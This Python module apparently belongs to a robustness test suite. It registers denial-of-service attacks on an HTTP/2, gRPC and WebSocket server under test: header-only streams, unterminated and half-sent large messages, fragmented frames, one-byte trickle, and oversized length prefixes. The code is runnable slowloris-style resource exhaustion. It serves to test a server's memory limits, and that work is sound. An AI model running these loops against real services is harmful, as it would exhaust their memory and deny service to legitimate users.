"""Messages that do not end, or claim to be large: what may a caller hold before it has committed anything?"""

import resource
import struct
import time

import http2
import websocket
import wire
from registry import OTHER_PEER, SAME_PEER, attack

BOTH = (OTHER_PEER, SAME_PEER)
MB = 1 << 20
# docs/limits.md: twice `server.max_upload_mb` (512), and 64 for everything else.
POOL_MB = 2 * 512 + 64


def claim(size):
    """The five bytes before a message of `size` bytes."""
    return struct.pack(">BI", 0, size)


def keep_open(target, methods, n_connections, n_streams, body):
    """Keeps streams open that say nothing after `body`; those that end are opened again."""
    connections = []
    while target.running():
        connections = [c for c in connections if not c.closed]
        while len(connections) < n_connections:
            connections.append(http2.Connection(target.port, target.source))
        for c in connections:
            c.pump()
            live = (c.next - 1) // 2 - len(c.ended)
            for k in range(min(20, n_streams - live)):
                c.call(methods[(c.next // 2 + k) % len(methods)], body, end=False)
        time.sleep(0.05)


@attack("upload-headers-only", growth_mb=64, sources=BOTH, honest=("infer", "back", "stats"))
def headers_only(target):
    """Opens 160 calls with HEADERS alone and never sends a message. A server that gives a place before a message is there
    refuses everybody else for the price of 16 kB."""
    keep_open(target, [wire.INFER, wire.BACKGROUND], 2, 80, None)


@attack("upload-headers-load", growth_mb=64, sources=BOTH, honest=("infer", "back", "stats"))
def headers_load(target):
    """The same with LoadModel and the other small methods, which may share a gate with inference or have none."""
    keep_open(target, list(wire.SMALL_METHODS), 2, 80, None)


@attack("upload-first-byte", growth_mb=64, sources=BOTH, honest=("infer", "back", "stats"))
def first_byte(target):
    """Opens 160 calls, claims 1 MB in each and sends one byte of it, so that a rule for empty streams does not see them."""
    keep_open(target, [wire.INFER, wire.BACKGROUND], 2, 80, claim(MB) + b"\x0a")


@attack("upload-unbounded", growth_mb=96, honest=("infer", "stats"))
def unbounded(target):
    """Sends 3.9 MB of messages that never end to every method with small messages, reflection and health included. Methods
    outside the main service often have a library's limit of 4 MB and no time limit: 200 streams hold 800 MB."""
    connections, body = [], claim(3_901_000) + bytes(3_900_000)
    for k in range(3):
        c = http2.Connection(target.port, target.source)
        for i in range(70):
            stream = c.call(wire.SMALL_METHODS[(k + i) % len(wire.SMALL_METHODS)])
            c.upload(stream, body, min(target.until, time.monotonic() + 1))
            if c.closed or not target.running():
                break
        connections.append(c)
    while target.running():
        for c in connections:
            c.pump()
        time.sleep(0.1)


def half_messages(target, path, size, head=b"", n=40, a_connection=10):
    """Sends all but the end of `n` large messages, and begins anew where a stream has ended."""
    connections, body = [], head + claim(size) + bytes(size - MB)
    while target.running():
        for c in connections:
            c.pump()
        alive = sum((c.next - 1) // 2 - len(c.ended) for c in connections if not c.closed)
        if alive >= n:
            time.sleep(0.1)
            continue
        if not connections or connections[-1].closed or connections[-1].next > 2 * a_connection:
            connections.append(http2.Connection(target.port, target.source))
        c = connections[-1]
        c.upload(c.call(path), body, min(target.until, time.monotonic() + 2))


@attack("upload-half-unary", growth_mb=POOL_MB, sources=BOTH)
def half_unary(target):
    """Sends 48 of 49 MB of 40 requests over four connections. Bounds that count requests and not bytes let that be 2 GB."""
    half_messages(target, wire.INFER, 49 * MB)


@attack("upload-half-one-connection", growth_mb=POOL_MB)
def half_unary_one_connection(target):
    """The same over one connection, which holds the window of the connection as well."""
    half_messages(target, wire.INFER, 49 * MB, a_connection=40)


@attack("upload-half-session", growth_mb=POOL_MB, sources=BOTH, honest=("infer", "session"))
def half_session(target):
    """Opens 40 sessions over gRPC and sends 48 of 49 MB of their second message. A session may be idle for minutes, and so long
    it keeps what it has."""
    half_messages(target, wire.STREAM, 49 * MB, http2.message(wire.OPEN))


@attack(
    "upload-half-session-small",
    growth_mb=POOL_MB,
    sources=(OTHER_PEER,),
    honest=("infer", "session"),
)
def half_session_small(target):
    """The same with 3.9 MB, which a limit on a session's messages allows, in as many sessions as there are."""
    half_messages(target, wire.STREAM, 3_900_000, http2.message(wire.OPEN), n=100, a_connection=50)


@attack("upload-half-websocket", growth_mb=POOL_MB, sources=BOTH, honest=("infer", "session"))
def half_websocket(target):
    """The same over 40 WebSockets: 1.9 GB where the server's documents promise 32 MiB for a session."""
    held, body = [], websocket.fragment(websocket.BINARY, bytes(48 * MB), claims=49 * MB)
    while target.running():
        try:
            s = websocket.connect(target.ops, target.source)
            held.append(s)
            s.settimeout(3)
            s.sendall(websocket.fragment(websocket.BINARY, wire.OPEN))
            s.sendall(body)
        except OSError:
            time.sleep(0.2)
        while len(held) >= 40 and target.running():
            time.sleep(0.2)


@attack("upload-half-fragments", growth_mb=POOL_MB, honest=("infer", "session"))
def half_fragments(target):
    """The same over WebSockets in fragments of 1 MB, the last of which never comes: no single length is too large."""
    held, piece = [], websocket.fragment(websocket.CONTINUE, bytes(MB), final=False)
    while target.running() and len(held) < 40:
        try:
            s = websocket.connect(target.ops, target.source)
            held.append(s)
            s.settimeout(2)
            s.sendall(
                websocket.fragment(websocket.BINARY, wire.OPEN)
                + websocket.fragment(websocket.BINARY, b"\x12", final=False)
            )
            for _ in range(47):
                s.sendall(piece)
        except OSError:
            time.sleep(0.1)


@attack("upload-trickle", growth_mb=96, sources=BOTH, honest=("infer", "back", "stats"))
def trickle(target):
    """Sends 160 messages at one byte a second each, so that none stands still and none ends."""
    connections = [http2.Connection(target.port, target.source) for _ in range(2)]
    while target.running():
        connections = [
            http2.Connection(target.port, target.source) if c.closed else c for c in connections
        ]
        for c in connections:
            c.pump()
            live = [s for s in range(1, c.next, 2) if s not in c.ended]
            for _ in range(80 - len(live)):
                c.call(wire.INFER, claim(MB), end=False)
            for s in live:
                c.send(http2.frame(http2.DATA, 0, s, b"\0"))
        time.sleep(1)


@attack("upload-length-prefix", growth_mb=400, limits={resource.RLIMIT_AS: 3000 * MB})
def length_prefix(target):
    """Claims 49 MB in five bytes, on 60 streams, under a limit of 3 GB of address space. A server that reserves what is
    claimed aborts where memory is limited (`ulimit -v`, strict overcommit)."""
    keep_open(target, [wire.INFER], 1, 60, claim(49 * MB))
